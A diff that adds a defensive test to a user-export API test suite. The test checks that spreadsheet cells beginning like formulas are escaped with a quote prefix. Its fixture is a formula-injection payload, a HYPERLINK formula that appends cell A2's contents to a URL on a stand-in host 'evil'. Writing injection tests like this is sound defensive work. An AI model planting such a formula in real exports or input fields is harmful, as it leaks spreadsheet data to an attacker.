@@ -221,4 +221,17 @@ describe('GET /api/users/paginate/{game}/export', () => {
   it('answers 422 for bad filters before streaming anything', async () => {
     expect((await get('/api/users/paginate/caliber/export?fromDate=2025-01-01')).statusCode).toBe(422);
   });
+
+  it('exports player text that starts like a formula with a quote prefix (no formula injection)', async () => {
+    const formula = '=HYPERLINK("http://evil/?"&A2,"x")';
+    const { user } = await createPlayer(t.app.ctx, {
+      name: formula,
+      phoneNumber: '+639175550101',
+      games: ['yggdra'],
+    });
+    const { rows } = await openXlsx((await get('/api/users/paginate/yggdra/export')).rawPayload);
+    const row = rows.find((r) => r[1] === user.email)!;
+    expect(row[0]).toBe(`'${formula}`);
+    expect(row[2]).toBe("'+639175550101");
+  });
 });
